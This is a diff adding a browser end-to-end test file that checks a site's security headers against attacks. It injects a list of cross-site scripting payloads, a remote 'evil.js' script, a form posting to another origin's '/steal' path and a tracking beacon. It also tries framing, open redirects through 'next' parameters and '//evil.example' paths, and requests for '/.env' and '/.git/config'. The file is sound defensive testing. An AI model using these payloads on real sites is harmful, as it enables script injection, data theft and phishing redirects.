@@ -1,0 +1,93 @@
+// What injected HTML, a frame or a link can do with the page under its real headers: nothing.
+import { avatar, loginForm, submitIn } from '../accounts.ts'
+import { expect, faultTest as test } from '../fixtures.ts'
+import { hydrated } from '../../support/hydrated.ts'
+import { startOtherOrigin, type OtherOrigin } from '../other-origin.ts'
+import { stackUnderTest } from '../stack.ts'
+
+let other: OtherOrigin
+
+test.beforeEach(async () => {
+  const frames = `<iframe name="site" src="${stackUnderTest().siteUrl}/auth"></iframe><iframe name="plain" src="/plain"></iframe>`
+  other = await startOtherOrigin({
+    '/evil.js': { type: 'text/javascript', body: 'window.pwned = true' },
+    '/plain': { type: 'text/html', body: '<h1>May be framed</h1>' },
+    '/frames': { type: 'text/html', body: frames },
+  })
+})
+test.afterEach(() => other.close())
+
+/** What of this our own script may do, were it made to. */
+const PROBE = `window.probe = []
+  try { (0, eval)('1'); probe.push('eval ran') } catch (error) { probe.push(error.name) }
+  fetch(document.getElementById('injected').action).then(() => probe.push('sent'), () => probe.push('not sent'))`
+
+test('nothing that is injected into the page runs, hides it or reaches another server', async ({ page }) => {
+  const attacks: [html: string, ...directives: string[]][] = [
+    ['<script>window.pwned = true</script>', 'script-src-elem'],
+    ['<img src="/none" onerror="window.pwned = true">', 'script-src-attr'],
+    [`<script src="${other.url}/evil.js"></script>`, 'script-src-elem'],
+    [`<script type="module" src="${other.url}/evil.js"></script>`, 'script-src-elem'],
+    ['<script src="data:text/javascript,window.pwned=true"></script>', 'script-src-elem'],
+    ['<iframe src="data:text/html,<script>top.pwned=true</script>"></iframe>', 'frame-src'],
+    [`<object data="${other.url}/evil.js"></object>`, 'object-src'],
+    [`<img src="${other.url}/beacon">`, 'img-src'],
+    ['<style>main { display: none }</style>', 'style-src-elem'],
+    [`<base href="${other.url}/">`, 'base-uri'],
+    [`<form id="injected" action="${other.url}/steal"></form>`, 'form-action'],
+    ['<script src="/probe.js"></script>', 'script-src', 'connect-src'],
+  ]
+  await page.addInitScript(() => {
+    Object.assign(window, { refused: new Set<string>() })
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+      (window as unknown as { refused: Set<string> }).refused.add(effectiveDirective),
+    )
+  })
+  await page.route('/probe.js', (route) => route.fulfill({ contentType: 'text/javascript', body: PROBE }))
+  await page.route('/auth', async (route) => {
+    const response = await route.fetch()
+    const html = attacks.map(([injected]) => injected).join('')
+    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${html}</body>`) })
+  })
+  await page.goto('/auth')
+  await hydrated(page)
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+  // The page holds back the event of a press, so only the policy stands in the way of this call.
+  await page.locator('#injected').evaluate((form: HTMLFormElement) => form.submit())
+  const refused = () => page.evaluate(() => [...(window as unknown as { refused: Set<string> }).refused].toSorted())
+  await expect.poll(refused).toEqual([...new Set(attacks.flatMap(([, ...directives]) => directives))].toSorted())
+  const probe = () => page.evaluate(() => Reflect.get(window, 'probe') as string[])
+  await expect.poll(probe).toEqual(['EvalError', 'not sent'])
+  expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
+  expect(other.asked).toEqual([])
+  expect(page.url()).not.toContain(other.url)
+})
+
+test('no one can put the site into a frame', async ({ page }) => {
+  await page.goto(`${other.url}/frames`)
+  const frame = (name: string) => page.frame({ name })
+  await expect.poll(() => frame('plain')?.locator('h1').count()).toBe(1)
+  await expect.poll(() => frame('site')?.url()).toBe('chrome-error://chromewebdata/')
+})
+
+test('a login does not follow an address in the link', async ({ page, ada }) => {
+  const target = encodeURIComponent(`${other.url}/plain`)
+  await page.goto(`/auth?next=${target}&redirect=${target}&redirect_to=${target}&returnTo=${target}`)
+  await loginForm(page).getByLabel('Email').fill(ada.email)
+  await loginForm(page).getByLabel('Password').fill(ada.password)
+  await submitIn(loginForm(page)).click()
+  await expect(avatar(page)).toBeVisible()
+  await expect(page).toHaveURL('/')
+})
+
+test('no path redirects to another host, and files for the host are not served', async ({ request }) => {
+  const { siteUrl } = stackUnderTest()
+  for (const path of ['//evil.example/', '/\\evil.example', '/%2f%2fevil.example', '/auth//evil.example/..']) {
+    const answer = await request.get(`${siteUrl}${path}`, { maxRedirects: 0 })
+    expect(answer.headers()['location'] ?? '/', path).toMatch(/^\/(?![/\\])/)
+  }
+  for (const path of ['/_headers', '/vercel.json', '/.env', '/.git/config', '/package.json']) {
+    expect((await request.get(path)).status(), path).toBe(404)
+  }
+  expect((await request.get('/.well-known/security.txt')).headers()['content-type']).toContain('text/plain')
+})
